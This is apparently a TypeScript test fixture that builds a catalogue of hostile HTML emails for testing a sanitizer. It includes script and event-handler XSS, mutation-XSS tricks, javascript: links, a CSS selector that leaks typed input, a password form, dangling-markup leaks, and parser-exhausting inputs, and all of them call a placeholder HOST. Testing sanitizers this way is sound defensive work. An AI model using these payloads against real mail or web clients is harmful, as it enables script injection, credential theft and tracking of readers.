/** HTML that wants to run something, to load something, to send something or to lead its reader away; each under the name of its way. */

/** `HOST` stands for where it would be heard of. */
const OUTSIDE = 'http://HOST';

export interface HostileMail {
  readonly name: string;
  readonly html: string;
}

const CALL = `fetch('${OUTSIDE}/ran');top.ran=1`;
/** Runs where a script does, in an attribute of any kind. */
const HANDLER = `top.ran=1,new Image().src='${OUTSIDE}/handler'`;

export function hostileMails(host: string): readonly HostileMail[] {
  return Object.entries(mails).map(([name, html]) => ({ name, html: html.replaceAll('HOST', host) }));
}

const mails: Readonly<Record<string, string>> = {
  script: `<script>${CALL}</script>`,
  'script from outside': `<script src="${OUTSIDE}/a.js"></script>`,
  'script in upper case, unclosed': `<SCRIPT SRC=${OUTSIDE}/a.js `,
  'script in a comment of Internet Explorer': `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`,
  'script behind a null byte': `<scr\0ipt>${CALL}</scr\0ipt>`,
  'script within a script': `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  'handlers of every kind': `<img src=x onerror="${HANDLER}"><body onload="${HANDLER}"><details open ontoggle="${HANDLER}">
    <video onloadstart="${HANDLER}"><source onerror="${HANDLER}"></video><input autofocus onfocus="${HANDLER}">
    <marquee onstart="${HANDLER}"></marquee><a onpointerover="${HANDLER}" style="display:block;height:100px">x</a>`,
  'handler behind a slash': `<img/src="x"/onerror="${HANDLER}">`,
  'handler behind a line end': `<img src="x"\nonerror\n=\n"${HANDLER}">`,
  'handler in an attribute that ends early': `<img alt="\`><img src=x onerror=${HANDLER}>">`,
  'javascript: in a link': `<a href="javascript:${HANDLER}" id=a>x</a><a href="&#106;avascript:${HANDLER}">y</a>
    <a href="java\tscript:${HANDLER}">z</a><a href=" \x01javascript:${HANDLER}">w</a><a href="data:text/html,<script>${CALL}</script>">d</a>`,
  'javascript: in a picture': `<img src="javascript:${HANDLER}"><img src="vbscript:x"><input type=image src="${OUTSIDE}/input.png">`,
  base: `<base href="${OUTSIDE}/"><img src="base.png"><a href="page">x</a><base target="_top">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${OUTSIDE}/refresh"><meta http-equiv=Set-Cookie content="a=b">`,
  'meta that changes the policy': `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${OUTSIDE}/a.png">`,
  form: `<form action="${OUTSIDE}/form" id=f><input name=password type=password><button autofocus>Sign in</button></form>
    <button form=f formaction="${OUTSIDE}/button">x</button><isindex action="${OUTSIDE}/isindex">`,
  frames: `<iframe src="${OUTSIDE}/frame"></iframe><iframe srcdoc="<script>${CALL}</script>"></iframe>
    <frameset><frame src="${OUTSIDE}/frameset"></frameset><portal src="${OUTSIDE}/portal"></portal><fencedframe></fencedframe>`,
  objects: `<object data="${OUTSIDE}/object"></object><embed src="${OUTSIDE}/embed"><applet code="${OUTSIDE}/applet"></applet>
    <object type="text/html" data="data:text/html,<script>${CALL}</script>"></object>`,
  links: `<link rel=stylesheet href="${OUTSIDE}/a.css"><link rel=prefetch href="${OUTSIDE}/prefetch"><link rel=dns-prefetch href="//HOST">
    <link rel=preload as=image href="${OUTSIDE}/preload"><link rel=modulepreload href="${OUTSIDE}/m.js"><link rel=icon href="${OUTSIDE}/i">
    <link rel=manifest href="${OUTSIDE}/manifest"><link rel=prerender href="${OUTSIDE}/prerender">`,
  pictures: `<img src="${OUTSIDE}/a.png"><img src="//HOST/b.png"><img srcset="${OUTSIDE}/c.png 1x"><picture><source srcset="${OUTSIDE}/d.png"><img></picture>
    <table background="${OUTSIDE}/e.png"><td background="${OUTSIDE}/f.png">x</table><body background="${OUTSIDE}/g.png">
    <img lowsrc="${OUTSIDE}/h.png" dynsrc="${OUTSIDE}/i.png" longdesc="${OUTSIDE}/j"><img src="\\\\HOST\\k.png"><img src="http:HOST/l.png">`,
  'sound and film': `<video src="${OUTSIDE}/a.mp4" poster="${OUTSIDE}/p.png" autoplay></video><audio src="${OUTSIDE}/a.mp3" autoplay></audio>
    <bgsound src="${OUTSIDE}/b.mid"><video><track default src="${OUTSIDE}/t.vtt"></video>`,
  'style sheet': `<style>@import "${OUTSIDE}/import.css";@import url(${OUTSIDE}/import2.css);@font-face{font-family:x;src:url(${OUTSIDE}/font)}
    body{background:url(${OUTSIDE}/body.png);font-family:x}li{list-style:url(${OUTSIDE}/li.png)}a{cursor:url(${OUTSIDE}/c.cur),auto}
    @namespace url(${OUTSIDE}/ns);p::before{content:url(${OUTSIDE}/content.png)}</style><ul><li>x</ul><p>y`,
  'style sheet that reads what is typed': `<style>${[...'abcdef']
    .map((letter) => `input[value^="${letter}"]{background:url(${OUTSIDE}/${letter})}`)
    .join('')}
    :has(> p){background:image-set("${OUTSIDE}/has" 1x)}</style><input value=abc><p>x`,
  'style attributes': `<p style="background:url(${OUTSIDE}/1)">a<p style="background:u\\72l(${OUTSIDE}/2)">b<p style="background:image-set('${OUTSIDE}/3' 1x)">c
    <p style="background:-webkit-image-set(url(${OUTSIDE}/4) 1x)">d<p style="list-style-image:url(${OUTSIDE}/5);display:list-item">e
    <p style="--a:url(${OUTSIDE}/6);background:var(--a)">f<p style="border-image:url(${OUTSIDE}/7) 1;border:1px solid">g
    <p style="mask:url(${OUTSIDE}/8)">h<p style="filter:url(${OUTSIDE}/9)">i<p style="background:\\75\\72\\6C('${OUTSIDE}/10')">j`,
  'style that ends its element': `<style>p{color:red}</style ><script>${CALL}</script><style>a{content:"</style><script>${CALL}</script>"}</style>`,
  'ways of old browsers': `<p style="width:expression(${HANDLER})">x<p style="behavior:url(${OUTSIDE}/b.htc)">y<p style="-moz-binding:url(${OUTSIDE}/x.xml#a)">z
    <xml id=x><a><b>&lt;img src=x onerror=${HANDLER}&gt;</b></a></xml><img src="mocha:x"><layer src="${OUTSIDE}/layer"></layer>`,
  'position above everything': `<div style="position:fixed;inset:0;z-index:99999;background:red">Sign in again</div>`,
  svg: `<svg onload="${HANDLER}"><script>${CALL}</script><image href="${OUTSIDE}/svg.png" /><use href="${OUTSIDE}/a.svg#b" />
    <foreignObject><iframe src="${OUTSIDE}/fo"></iframe></foreignObject><animate attributeName=href values="javascript:${HANDLER}" /><set onbegin="${HANDLER}" /></svg>`,
  'svg as a picture': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'><image href='${OUTSIDE}/in.png'/></svg>">`,
  mathml: `<math><maction actiontype="statusline#" xlink:href="javascript:${HANDLER}">x</maction><mglyph src="${OUTSIDE}/glyph"></math>`,
  'mutation: noscript': `<noscript><p title="</noscript><img src=x onerror=${HANDLER}>"></noscript>`,
  'mutation: style in svg': `<svg></p><style><a id="</style><img src=x onerror=${HANDLER}>"></svg>`,
  'mutation: style in math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${HANDLER}&gt;">`,
  'mutation: form in form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HANDLER}>`,
  'mutation: comment': `<!--><img src=x onerror=${HANDLER}>--><!--x--!><img src=x onerror=${HANDLER}>-->`,
  'mutation: title': `<title>&lt;/title&gt;&lt;img src=x onerror=${HANDLER}&gt;</title><title></title><img src=x onerror=${HANDLER}></title>`,
  'mutation: textarea and xmp': `<textarea></textarea><img src=x onerror=${HANDLER}></textarea><xmp><img src=x onerror=${HANDLER}></xmp>
    <listing>&lt;img src=x onerror=${HANDLER}&gt;</listing><plaintext><img src=x onerror=${HANDLER}>`,
  'mutation: template and select': `<template><script>${CALL}</script></template><select><template><img src=x onerror=${HANDLER}></template></select>
    <select><option><style></option></select><img src=x onerror=${HANDLER}></style></select>`,
  'mutation: iframe and noembed': `<iframe><p title="</iframe><img src=x onerror=${HANDLER}>"></iframe><noembed><img src=x onerror=${HANDLER}></noembed>
    <noframes><p title="</noframes><img src=x onerror=${HANDLER}>"></noframes>`,
  'mutation: cdata': `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${HANDLER}>//"></svg><![CDATA[<img src=x onerror=${HANDLER}>]]>`,
  'mutation: entities in attributes': `<a href="&#x6A;&#x61;vascript&colon;${HANDLER}">x</a><img alt="&quot;&gt;&lt;img src=x onerror=${HANDLER}&gt;">
    <p title="&lt;/p&gt;&lt;script&gt;${CALL}&lt;/script&gt;">y`,
  'names that cover ours': `<a id=location></a><img name=body><form id=document><input name=cookie></form><a name=top href="${OUTSIDE}/top">x</a>`,
  'encodings that others read': `+ADw-script+AD4-${CALL}+ADw-/script+AD4-<meta charset=utf-7>\uFF1Cscript\uFF1E${CALL}\uFF1C/script\uFF1E`,
  'ends of everything': `</body></html></iframe></textarea></title></style></script><script>${CALL}</script><img src=x onerror=${HANDLER}>`,
  'what is not closed': `<img src="${OUTSIDE}/dangling?<p>a secret</p>`,
  'what is not closed, in single quotes': `<a href='${OUTSIDE}/dangling?<p>a secret</p><form action='${OUTSIDE}/?`,
  'attributes without end': `<p ${'a=b '.repeat(50_000)}onclick=${HANDLER}>x`,
  'elements without end': `${'<div>'.repeat(100_000)}<img src=x onerror=${HANDLER}>`,
  'elements that close nothing': `${'<b></i>'.repeat(50_000)}<script>${CALL}</script>`,
  'tables in tables': `${'<table><tr><td>'.repeat(20_000)}<img src="${OUTSIDE}/deep.png">`,
  'five megabytes': `${`<p style="color:red">text <a href="${OUTSIDE}/l">link</a></p>`.repeat(80_000)}<script>${CALL}</script>`,
  'a style of a megabyte': `<style>${`p{background:url(${OUTSIDE}/s)}`.repeat(30_000)}</style><p>x`,
  'brackets without end': `<p style="${'('.repeat(200_000)}">x<style>${'{'.repeat(200_000)}</style><script>${CALL}</script>`,
};
